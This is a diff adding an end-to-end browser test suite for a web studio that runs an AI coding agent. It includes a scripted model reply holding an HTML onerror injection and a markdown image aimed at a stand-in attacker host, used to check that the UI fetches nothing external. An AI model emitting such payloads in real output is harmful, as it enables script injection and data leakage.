@@ -1,0 +1,250 @@
+// The studio in a real browser: what a person does with it, from the first load to a service that was killed meanwhile.
+import { existsSync, readFileSync } from "node:fs";
+import { createRequire } from "node:module";
+import { join } from "node:path";
+import type { Browser, Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { TestService, until } from "../serve/service-support.ts";
+import { repository } from "../support/run-cli.ts";
+import { orSkipped } from "../support/skipping.ts";
+import { noChromium, openBrowser, openStudio } from "./browser.ts";
+
+const service = new TestService();
+let browser: Browser;
+let page: Page;
+let requests: string[];
+let errors: string[];
+
+describe.skipIf(noChromium)(orSkipped("the studio", noChromium), () => {
+  beforeAll(async () => {
+    const { file, config } = service.workspace;
+    file("src/a.ts", "export const a = 1;\nexport const b = 2;\n");
+    file("old.txt", "to be deleted\n");
+    const tools = { command: process.execPath, args: [join(repository, "test/support/mcp-server.mjs")] };
+    file(join(config, "mcp.json"), JSON.stringify({ mcpServers: { demo: tools } }));
+    [browser] = await Promise.all([openBrowser(), service.start()]);
+    ({ page, requests, errors } = await openStudio(browser, service));
+  });
+
+  afterAll(async () => {
+    await browser?.close();
+    await service.remove();
+  });
+
+  it("loads little, from its own service alone, and keeps its key out of the address", async () => {
+    await page.getByRole("link", { name: "New run" }).first().waitFor();
+    expect(page.url()).toBe(`http://127.0.0.1:${service.info.port}/`);
+    const bytes = await page.evaluate(() =>
+      performance
+        .getEntriesByType("resource")
+        .filter(({ name }) => /\.(js|css)$/.test(name))
+        .map((entry) => (entry as PerformanceResourceTiming).encodedBodySize),
+    );
+    expect(bytes.length).toBeGreaterThan(1);
+    expect(bytes.reduce((sum, each) => sum + each, 0)).toBeLessThanOrEqual(80 * 1024);
+    const plain = await openStudio(browser, { info: { ...service.info, token: "x" } } as TestService);
+    await plain.page.getByText("This page needs its key").waitFor();
+    await plain.context.close();
+  });
+
+  it("starts a run from the form, and shows every tool as it works", async () => {
+    await page.keyboard.press("n");
+    await page.getByLabel("What should the agent do?").fill("Use every tool\nand say what came of it");
+    expect(await page.locator(".new-run select").first().locator("option").first().textContent()).toMatch(
+      /^courser \d/,
+    );
+    await page.getByLabel("Model").fill(service.script(everyTool()));
+    await page.getByLabel("Permission").selectOption("force");
+    await page.getByRole("button", { name: "Start" }).click();
+    await page.getByText(/^Done in/).waitFor();
+    const timeline = page.getByRole("feed");
+    await timeline.press("g");
+    const seen = new Set<string>();
+    for (let step = 0; step < 40; step++) {
+      for (const name of await timeline.locator(".cr-name").allTextContents()) seen.add(name);
+      await timeline.press("j");
+    }
+    expect([...seen]).toEqual(
+      expect.arrayContaining(["List", "Read", "Edit", "Write", "Delete", "Glob", "Grep", "Bash", "Todo", "WebFetch"]),
+    );
+    expect([...seen].join(" ")).toMatch(/SemanticSearch/);
+    expect([...seen].join(" ")).toMatch(/add/);
+    // What a model says is text, whatever it looks like; pictures from elsewhere are not fetched.
+    expect(await page.locator("img[onerror]").count()).toBe(0);
+    expect(
+      requests.filter((url) => !url.startsWith(`http://127.0.0.1:${service.info.port}/`) && !url.startsWith("data:")),
+    ).toEqual([]);
+  });
+
+  it("has nothing serious that axe finds, in either light", async () => {
+    const source = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
+    for (const colorScheme of ["light", "dark"] as const) {
+      await page.emulateMedia({ colorScheme });
+      // By the debugger, since the page lets nobody else in.
+      const found = await page.evaluate(`${source}; axe.run(document, { resultTypes: ["violations"] })`);
+      const serious = (found as any).violations.filter(({ impact }: any) => /serious|critical/.test(impact));
+      expect(serious.map(({ id, nodes }: any) => [id, nodes.map(({ html }: any) => html.slice(0, 200))])).toEqual([]);
+    }
+    await page.emulateMedia({ colorScheme: "light" });
+  });
+
+  it("finds it again by a word, and goes on with it", async () => {
+    await page.keyboard.press("/");
+    await page.keyboard.type("persimmon");
+    await page.locator(".item-snippet", { hasText: "persimmon" }).waitFor();
+    await page.keyboard.press("Enter");
+    await page.keyboard.press("Enter");
+    await page.waitForURL(/\/sessions\/cursor\//);
+    await page.getByText(/^Done in/).waitFor();
+    await page.getByLabel("Next prompt").fill("And once more?");
+    await page.keyboard.press("Enter");
+    await page.locator(".cr-user", { hasText: "And once more?" }).waitFor();
+    await page.getByText("That was all.").waitFor();
+    await page.getByLabel("Search all sessions").first().fill("");
+  });
+
+  it("shows what changed, and takes comments on lines to the agent", async () => {
+    await page.getByRole("link", { name: "Changes", exact: true }).first().click();
+    const line = page.locator(".changed", { hasText: "a.ts" }).locator(".cr-change.cr-added").first();
+    await line.hover();
+    await line.getByRole("button").click();
+    await page.getByLabel("Comment on this line").fill("Why forty-two?");
+    await page.getByRole("button", { name: "Comment", exact: true }).click();
+    await page.getByRole("button", { name: "By turn" }).click();
+    await page.getByRole("heading", { name: "Turn 1" }).waitFor();
+    await page.getByRole("button", { name: "Send to the agent" }).click();
+    const told = page.locator(".cr-user", { hasText: "Why forty-two?" });
+    await told.waitFor();
+    expect(await told.textContent()).toMatch(/src\/a\.ts:1/);
+    await page.getByText("It is the answer.").waitFor();
+  });
+
+  it("replays it, with files as they were", async () => {
+    await page.getByRole("link", { name: "Replay" }).click();
+    const moment = page.getByRole("slider");
+    await moment.fill("0");
+    await page.locator(".files-then button", { hasText: "src/a.ts" }).click();
+    const file = page.locator(".file-then");
+    expect(await file.textContent()).toContain("a = 1");
+    await moment.fill(String(await moment.getAttribute("max")));
+    await expect.poll(() => file.textContent()).toContain("a = 42");
+    await moment.fill("2");
+    await page.getByLabel("Speed").selectOption("50");
+    await page.getByRole("button", { name: "Play" }).click();
+    await expect.poll(async () => Number(await moment.inputValue())).toBeGreaterThan(8);
+    await page.getByRole("link", { name: "Events" }).click();
+    await page.locator(".raw-line", { hasText: "tool_end" }).first().click();
+    await page.locator(".raw pre", { hasText: '"type": "tool_end"' }).waitFor();
+  });
+
+  it("asks in the inbox, in every tab, and counts one answer", async () => {
+    service.workspace.file("gone.txt", "x");
+    const calls = [{ name: "Delete", args: { path: "gone.txt" } }];
+    const run = await start("Remove it", [{ calls }, { text: "Removed." }]);
+    const other = await openStudio(browser, service, { path: `/runs/${run}` });
+    await other.page.getByRole("button", { name: "Once" }).waitFor();
+    await page
+      .getByRole("link", { name: /^Inbox/ })
+      .first()
+      .click();
+    await page.getByText("gone.txt").first().waitFor();
+    await page.keyboard.press("y");
+    await page.getByText("Nothing waits for you").waitFor();
+    await other.page.getByText("Removed.").waitFor();
+    expect(await other.page.getByRole("button", { name: "Once" }).count()).toBe(0);
+    expect(existsSync(join(service.workspace.path, "gone.txt"))).toBe(false);
+    expect(other.errors).toEqual([]);
+    await other.context.close();
+  });
+
+  it("finds its service again after it was killed, and stops what runs", async () => {
+    const run = await start(
+      "Take your time",
+      [
+        { text: "One.", calls: [{ name: "Shell", args: { command: "sleep 2.5; echo after" } }] },
+        { text: "Two.", calls: [{ name: "Shell", args: { command: "sleep 60" } }] },
+      ],
+      { force: true },
+    );
+    await page.locator(".item", { hasText: "Take your time" }).first().click();
+    await page.getByText("One.", { exact: true }).waitFor();
+    await service.kill();
+    await service.start();
+    await page.getByText("Two.", { exact: true }).waitFor();
+    expect(await page.getByText("One.", { exact: true }).count()).toBe(1);
+    await page.getByLabel("Message to the agent").fill("look left");
+    await page.getByRole("button", { name: "Queue" }).click();
+    await page.locator(".pending", { hasText: "look left" }).waitFor();
+    await page.getByRole("button", { name: "Stop", exact: true }).click();
+    await page.getByText(/^Interrupted after/).waitFor();
+    expect((await service.over(run)).state).toBe("cancelled");
+  });
+
+  it("renames and deletes sessions by the palette", async () => {
+    await page.getByText("Go on with this session").or(page.getByLabel("Next prompt")).first().waitFor();
+    await page.keyboard.press("Escape");
+    await page.keyboard.press("Control+k");
+    await page.keyboard.type("rename");
+    await page.keyboard.press("Enter");
+    await page.getByLabel("Title").fill("A better name");
+    await page.keyboard.press("Enter");
+    await page.getByRole("heading", { name: "A better name" }).waitFor();
+    await page.getByLabel("More").click();
+    await page.getByRole("button", { name: "Delete" }).click();
+    await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
+    await page.getByText("The session is deleted").waitFor();
+    expect(await page.locator(".item", { hasText: "A better name" }).count()).toBe(0);
+  });
+
+  it("fits on a phone", async () => {
+    await page.setViewportSize({ width: 390, height: 780 });
+    await page.getByRole("button", { name: /Sessions/ }).click();
+    await page.getByRole("dialog").locator(".item", { hasText: "Use every tool" }).click();
+    await page.locator(".cr-row").first().waitFor();
+    await page.getByRole("button", { name: "Details" }).click();
+    await page.getByRole("dialog").getByText("Usage").waitFor();
+    await page.keyboard.press("Escape");
+    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+    expect(overflow).toBeLessThanOrEqual(0);
+    expect(errors).toEqual([]);
+  });
+});
+
+async function start(text: string, replies: unknown, more: object = {}): Promise<string> {
+  const body = { workspace: service.workspace.path, prompt: { text }, model: service.script(replies), ...more };
+  const run = (await service.call("POST", "/api/runs", body)).body.id as string;
+  await until(async () => (await service.fleet.run(run))?.sessionId !== undefined, "the session");
+  return run;
+}
+
+function everyTool() {
+  const todos = [{ id: "1", content: "Look", status: "in_progress" }];
+  return [
+    {
+      thinking: "Where to begin?",
+      text: "<img src=x onerror=alert(1)> ![x](https://evil.test/?d=1) I begin.",
+      calls: [
+        { name: "LS", args: { path: "." } },
+        { name: "Read", args: { path: "src/a.ts" } },
+        { name: "Glob", args: { pattern: "**/*.ts" } },
+        { name: "Grep", args: { pattern: "export" } },
+        { name: "TodoWrite", args: { todos, merge: false } },
+        { name: "SemanticSearch", args: { query: "where is a defined" } },
+      ],
+    },
+    {
+      text: "Now the changes.",
+      calls: [
+        { name: "Edit", args: { path: "src/a.ts", old_string: "a = 1", new_string: "a = 42" } },
+        { name: "Write", args: { path: "made.txt", contents: "new\n" } },
+        { name: "Delete", args: { path: "old.txt" } },
+        { name: "Shell", args: { command: "printf '\\033[32mgreen\\033[0m\\n'" } },
+        { name: "demo-add", args: { a: 1, b: 2 } },
+        { name: "WebFetch", args: { url: "http://127.0.0.1:9/" } },
+      ],
+    },
+    { text: "All of them were used: **persimmon**." },
+    { text: "That was all." },
+    { text: "It is the answer." },
+  ];
+}
